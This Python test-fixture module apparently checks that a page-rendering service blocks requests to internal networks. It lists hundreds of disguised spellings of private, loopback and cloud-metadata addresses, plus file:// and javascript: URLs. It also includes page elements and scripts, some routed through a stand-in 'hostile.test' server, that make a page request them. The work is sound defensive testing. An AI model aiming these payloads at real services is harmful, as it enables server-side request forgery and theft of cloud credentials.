"""What a page can ask the network with, and every way to write a forbidden address."""

import html
import json
from collections.abc import Callable, Sequence
from dataclasses import dataclass

#: Hosts as a page may write them; each leads to a canary, or would if it were let.
HOSTS = (
    # plain: private, link-local and metadata, carrier NAT, loopback, this host, tests, examples
    "10.0.0.1", "172.16.0.1", "192.168.7.7", "169.254.169.254", "100.64.0.1", "127.0.0.1",
    "127.8.9.1", "0.0.0.0", "198.18.0.1", "192.0.2.1", "203.0.113.9",
    # multicast, broadcast, reserved: no canary there, but no packet may go there either
    "224.0.0.1", "239.255.255.250", "255.255.255.255", "240.0.0.1",
    # odd spellings: octal, hexadecimal, one number, short, trailing dot, percent, full width,
    # circled digits, ideographic full stops, user and password
    "0177.0.0.1", "0x7f.0.0.1", "0x7f000001", "2130706433", "017700000001", "127.1", "0", "10.1",
    "0xa.1", "167772161", "0x0a000001", "127.0.0.1.", "%31%32%37.0.0.1", "１０.0.0.1",
    "⑩.0.0.1", "10。0。0。1", "user:word@10.0.0.1", "93.184.216.34@10.0.0.1", "10.0.0.1:8080",
    "127.0.0.1:9222",
    # IPv6: loopback, mapped, unique local, link-local, 6to4, NAT64, site-local, unspecified,
    # written out, compatible, Teredo
    "[::1]", "[0:0:0:0:0:0:0:1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::ffff:10.0.0.1]",
    "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "[fe80::5]", "[2002:a00:1::1]", "[64:ff9b::a00:1]",
    "[64:ff9b::10.0.0.1]", "[fec0::1]", "[::]", "[::127.0.0.1]", "[ff02::1]",
    "[2001:0:1:2:3:4:f5ff:fffe]",
    # names
    "localhost", "LOCALHOST.", "a.localhost", "inside.test", "INSIDE.test.", "metadata.test",
    "loop.test", "mapped.test", "loop6.test", "metadata6.test", "sixtofour.test", "nat64.test",
)  # fmt: skip

#: One of each kind; tests of the other spellings are for `make endurance`.
SOME_HOSTS = (
    "10.0.0.1", "169.254.169.254", "127.0.0.1", "0x7f000001", "127.1", "127.0.0.1.", "⑩.0.0.1",
    "10.0.0.1:8080", "[::1]", "[::ffff:10.0.0.1]", "[fd00:ec2::254]", "[64:ff9b::a00:1]",
    "localhost", "inside.test", "loop6.test", "metadata.test", "nat64.test",
)  # fmt: skip

#: What is no address of the web at all.
SCHEMES = (
    "file:///etc/passwd", "FILE:///etc/passwd", "file://localhost/etc/passwd",
    "\\\\localhost\\etc\\passwd", "//localhost/etc/passwd", "file:/etc/passwd", "ftp://10.0.0.1/x",
    "gopher://10.0.0.1/", "dict://10.0.0.1:2628/", "chrome://version", "chrome://gpu",
    "chrome-extension://mhjfbmdgcfjbbpaeojofohoefgiehjai/index.html", "devtools://devtools/x",
    "view-source:https://10.0.0.1/", "view-source:file:///etc/passwd", "about:blank",
    "filesystem:https://poster.invalid/temporary/x", "intent://10.0.0.1/#Intent;end", "smb://10.0.0.1/",
    "ws://10.0.0.1/", "wss://10.0.0.1/", "blob:https://10.0.0.1/1-2", "javascript:alert(1)",
    "data:text/html,<img src=https://10.0.0.1/>", "jar:https://10.0.0.1!/", "ssh://10.0.0.1",
)  # fmt: skip


@dataclass(frozen=True)
class Element:
    """One way to ask.

    Attributes:
        name: For the test's name.
        page: From addresses to HTML.
        asks: Whether it asks the network, so that a canary hears of it where it is let.
        alone: Whether it may disturb others of the same page (navigations do).
    """

    name: str
    page: Callable[[Sequence[str]], str]
    asks: bool = True
    alone: bool = False


def markup(name: str, text: str, **how: bool) -> Element:
    """An element for each address; URL stands for it."""

    def page(urls: Sequence[str]) -> str:
        return "".join(text.replace("URL", html.escape(url)) for url in urls)

    return Element(name, page, **how)


def css(name: str, text: str, **how: bool) -> Element:
    """A rule for each address; N is a number, so that each has an element of its own."""

    def page(urls: Sequence[str]) -> str:
        rules = [text.replace("N", str(i)).replace("URL", url) for i, url in enumerate(urls)]
        used = "".join(f"<p id=e{i} class=c>x</p>" for i in range(len(urls)))
        return f"<style>{''.join(rules)}</style>{used}"

    return Element(name, page, **how)


def script(name: str, text: str, **how: bool) -> Element:
    """A statement for each `url`; what one throws is no matter of the others."""

    def page(urls: Sequence[str]) -> str:
        reported = json.dumps(list(urls)).replace("<", "\\u003c")
        return (
            f"<script>for (const url of {reported}) "
            f"(async () => {{ {text} }})().catch(() => {{}})</script>"
        )

    return Element(name, page, **how)


def worker(name: str, kind: str, text: str) -> Element:
    """A worker that runs a statement for each `url`."""

    def page(urls: Sequence[str]) -> str:
        body = f"for (const url of {json.dumps(list(urls))}) {{ try {{ {text} }} catch {{}} }}"
        reported = json.dumps(body).replace("<", "\\u003c")
        return f"<script>new {kind}(URL.createObjectURL(new Blob([{reported}])))</script>"

    return Element(name, page)


def through(status: int) -> Element:
    """A hostile server's redirect to each address, for pictures, frames and scripts."""
    text = (
        f"const there = `https://hostile.test/go?status={status}&to=${{encodeURIComponent(url)}}`;"
        "new Image().src = there;"
        "const f = document.createElement('iframe'); f.src = there; document.body.append(f);"
        "await fetch(there, {mode: 'no-cors', method: 'POST', body: 'x'})"
    )
    return script(f"redirect-{status}", text)


FRAME = "const f = document.createElement('iframe'); f.src = {}; document.body.append(f);"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' width=9 height=9>{}</svg>"

ELEMENTS = (
    markup("img", "<img src='URL'>"),
    markup("img-srcset", "<img srcset='URL 1x, URL 2x'>"),
    markup("img-lazy", "<img loading=lazy src='URL'>"),
    markup("picture", "<picture><source srcset='URL'><img></picture>"),
    markup("input-image", "<input type=image src='URL'>"),
    markup("body-background", "<table background='URL'><tr><td>x</table>"),
    markup("video", "<video src='URL' preload=auto autoplay muted></video>"),
    markup("video-poster", "<video poster='URL'></video>"),
    markup("audio", "<audio src='URL' preload=auto></audio>"),
    markup("media-source", "<video preload=auto autoplay muted><source src='URL'></video>"),
    markup("track", "<video src='data:video/mp4,' crossorigin><track default src='URL'></video>",
           asks=False),
    markup("embed", "<embed src='URL'>"),
    markup("embed-pdf", "<embed type=application/pdf src='URL'>", asks=False),
    markup("object", "<object data='URL'></object>"),
    markup("iframe", "<iframe src='URL'></iframe>"),
    markup("iframe-srcdoc", "<iframe srcdoc=\"<img src='URL'>\"></iframe>"),
    markup("iframe-data", "<iframe src=\"data:text/html,<img src='URL'>\"></iframe>"),
    markup("iframe-sandbox", "<iframe sandbox='allow-scripts' src='URL'></iframe>"),
    markup("frame-refresh", "<iframe srcdoc=\"<meta http-equiv=refresh content='0;url=URL'>\">"
           "</iframe>"),
    markup("stylesheet", "<link rel=stylesheet href='URL'>"),
    markup("icon", "<link rel=icon href='URL'><link rel='apple-touch-icon' href='URL'>",
           asks=False),
    markup("manifest", "<link rel=manifest href='URL'>", asks=False),
    markup("preload", "".join(f"<link rel=preload as={kind} crossorigin href='URL'>"
           for kind in ("image", "script", "style", "font", "fetch"))),
    markup("modulepreload", "<link rel=modulepreload href='URL'>"),
    markup("prefetch", "<link rel=prefetch href='URL'><link rel=prerender href='URL'>"),
    markup("preconnect", "<link rel=preconnect href='URL'><link rel=preconnect crossorigin "
           "href='URL'>", asks=False),
    markup("dns-prefetch", "<link rel=dns-prefetch href='URL'>", asks=False),
    markup("dictionary", "<link rel=compression-dictionary href='URL'>", asks=False),
    markup("script", "<script src='URL'></script>"),
    markup("script-async", "<script async src='URL'></script>"),
    markup("module", "<script type=module src='URL'></script>"),
    markup("svg-image", SVG.format("<image href='URL' width=9 height=9 />")),
    markup("svg-use", SVG.format("<use href='URL#x'/>"), asks=False),
    markup("svg-feimage", SVG.format("<filter id=f><feImage href='URL'/></filter>"
           "<rect width=9 height=9 filter='url(#f)'/>"), asks=False),
    markup("svg-script", SVG.format("<script href='URL'></script>")),
    markup("svg-foreign", SVG.format("<foreignObject width=9 height=9><img "
           "xmlns='http://www.w3.org/1999/xhtml' src='URL'/></foreignObject>")),
    markup("svg-in-img", "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'>"
           "<image href='URL'/></svg>\">", asks=False),
    markup("xslt", "<iframe src=\"data:text/xml,<?xml-stylesheet type='text/xsl' href='URL'?>"
           "<a/>\"></iframe>", asks=False),
    markup("attribution", "<img attributionsrc='URL' src='data:,'>", asks=False),
    markup("anchor-ping", "<a ping='URL' href='#x' class=p>x</a>"
           "<script>document.querySelectorAll('.p').forEach((a) => a.click())</script>"),
    markup("anchor-download", "<a download href='URL' class=d>x</a>"
           "<script>document.querySelectorAll('.d').forEach((a) => a.click())</script>",
           asks=False),
    markup("form-frame", "<iframe name=f></iframe><form target=f action='URL' class=s></form>"
           "<script>document.querySelectorAll('.s').forEach((f) => f.submit())</script>"),
    css("css-import", "@import 'URL';"),
    css("css-background", "#eN { background: url('URL') }"),
    css("css-more", "#eN { list-style: url('URL'); cursor: url('URL'), auto; border-image: "
        "url('URL') 1; mask: url('URL'); shape-outside: url('URL'); filter: url('URL#x'); "
        "clip-path: url('URL#x') } #eN::before { content: url('URL') }"),
    css("css-image-set", "#eN { background: image-set('URL' 1x) }"),
    css("css-font", "@font-face { font-family: fN; src: url('URL') } #eN { font-family: fN }"),
    script("fetch", "await fetch(url)"),
    script("fetch-no-cors", "await fetch(url, {mode: 'no-cors'})"),
    script("fetch-post", "await fetch(url, {method: 'PUT', headers: {'X-A': '1'}, body: 'x'})"),
    script("fetch-metadata", "await fetch(url, {headers: {'Metadata-Flavor': 'Google', "
           "'X-aws-ec2-metadata-token': '1'}})"),
    script("fetch-keepalive", "await fetch(url, {keepalive: true, mode: 'no-cors'})"),
    script("fetch-later", "fetchLater(url, {activateAfter: 0})", asks=False),
    script("xhr", "const x = new XMLHttpRequest(); x.open('GET', url); x.send()"),
    script("xhr-sync", "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send()"),
    script("beacon", "navigator.sendBeacon(url, 'x')"),
    script("event-source", "new EventSource(url)"),
    script("image", "new Image().src = url"),
    script("font-face", "await new FontFace('f', `url(${url})`).load()"),
    script("import", "await import(url)"),
    script("worker-url", "new Worker(url)", asks=False),
    script("shared-worker-url", "new SharedWorker(url)", asks=False),
    script("service-worker", "await navigator.serviceWorker.register(url)", asks=False),
    script("paint-worklet", "await CSS.paintWorklet.addModule(url)"),
    script("audio-worklet", "await new AudioContext().audioWorklet.addModule(url)"),
    script("web-socket", "new WebSocket(url.replace('http', 'ws'))", asks=False),
    script("web-transport", "new WebTransport(url).ready.catch(() => {})", asks=False),
    script("stun", "const host = new URL(url).hostname; const c = new RTCPeerConnection({"
           "iceServers: [{urls: `stun:${host}:3478`}, {urls: `turn:${host}:8080?transport=tcp`, "
           "username: 'a', credential: 'b'}]}); c.createDataChannel('x');"
           "await c.setLocalDescription(await c.createOffer())", asks=False),
    script("fedcm", "await navigator.credentials.get({identity: {providers: [{configURL: url, "
           "clientId: '1'}]}})", asks=False),
    script("payment", "await new PaymentRequest([{supportedMethods: url}], {total: {label: 'x', "
           "amount: {currency: 'EUR', value: '1'}}}).canMakePayment()", asks=False),
    script("media-session", "navigator.mediaSession.metadata = new MediaMetadata({artwork: "
           "[{src: url}]})", asks=False),
    script("notification", "new Notification('x', {icon: url, image: url})", asks=False),
    script("speculation", "const s = document.createElement('script'); s.type = 'speculationrules';"
           "s.textContent = JSON.stringify({prefetch: [{urls: [url], eagerness: 'immediate'}], "
           "prerender: [{urls: [url], eagerness: 'immediate'}]}); document.head.append(s)",
           asks=False),
    script("document-write", "document.write(`<img src='${url}'>`)"),
    script("shadow", "const d = document.createElement('div'); document.body.append(d); "
           "d.attachShadow({mode: 'closed'}).innerHTML = `<img src='${url}'>`"),
    script("blob-frame", FRAME.format(
        "URL.createObjectURL(new Blob([`<img src='${url}'>`], {type: 'text/html'}))")),
    script("javascript-frame", FRAME.format(
        "`javascript:'<img src=\\\\x22${url}\\\\x22>'`"), asks=False),
    script("hostile-frame", FRAME.format(
        "`https://hostile.test/typed?body=${encodeURIComponent(`<script>fetch('${url}');"
        "new WebSocket('${url}'.replace('http', 'ws'));new Image().src='${url}'<\\x2fscript>`)}`")),
    script("hostile-link-header", FRAME.format(
        "`https://hostile.test/typed?body=x&header=${encodeURIComponent("
        "`Link=<${url}>; rel=preload; as=image`)}`"), asks=False),
    script("hostile-refresh-header", FRAME.format(
        "`https://hostile.test/typed?body=x&header=${encodeURIComponent(`Refresh=0;url=${url}`)}`"
    )),
    script("hostile-reports", FRAME.format(
        "`https://hostile.test/typed?body=<img+src=x>${['Content-Security-Policy=img-src '"
        " + `'none'; report-uri ${url}`, `Reporting-Endpoints=default=\"${url}\"`, "
        "`NEL={\"report_to\":\"d\",\"max_age\":9,\"success_fraction\":1}`, "
        "`Report-To={\"group\":\"d\",\"max_age\":9,\"endpoints\":[{\"url\":\"${url}\"}]}`]"
        ".map((one) => '&header=' + encodeURIComponent(one)).join('')}`")),
    script("hostile-service-worker", FRAME.format(
        "`https://hostile.test/typed?body=${encodeURIComponent(`<script>navigator.serviceWorker"
        ".register('/typed?type=text/javascript&n=${Math.random()}&body=' + encodeURIComponent("
        "\"fetch('${url}')\"))<\\x2fscript>`)}`")),
    worker("worker", "Worker", "fetch(url).catch(() => {}); "
           "new WebSocket(url.replace('http', 'ws'))"),
    worker("worker-import", "Worker", "importScripts(url)"),
    worker("shared-worker", "SharedWorker", "fetch(url).catch(() => {})"),
    *(through(status) for status in (301, 302, 303, 307, 308)),
    markup("refresh", "<meta http-equiv=refresh content='0;url=URL'>", asks=False, alone=True),
    script("location", "location = url", asks=False, alone=True),
    script("location-replace", "setTimeout(() => location.replace(url))", asks=False, alone=True),
    script("open", "open(url); open(url, '_top')", asks=False, alone=True),
    markup("form", "<form action='URL' class=g></form><form method=post action='URL' class=g>"
           "</form><script>document.querySelectorAll('.g').forEach((f) => f.submit())</script>",
           asks=False, alone=True),
    markup("base", "<base href='URL'><img src=x><link rel=stylesheet href=y>", alone=True),
)  # fmt: skip
BY_NAME = {one.name: one for one in ELEMENTS}
assert len(BY_NAME) == len(ELEMENTS)
#: Pages of several elements, where they do not get in each other's way.
TOGETHER = [one for one in ELEMENTS if not one.alone]
PAGES = [TOGETHER[i::12] for i in range(12)]


def names_of(elements: Sequence[Element]) -> str:
    """For the name of a test."""
    return f"{elements[0].name}+" if len(elements) > 1 else elements[0].name
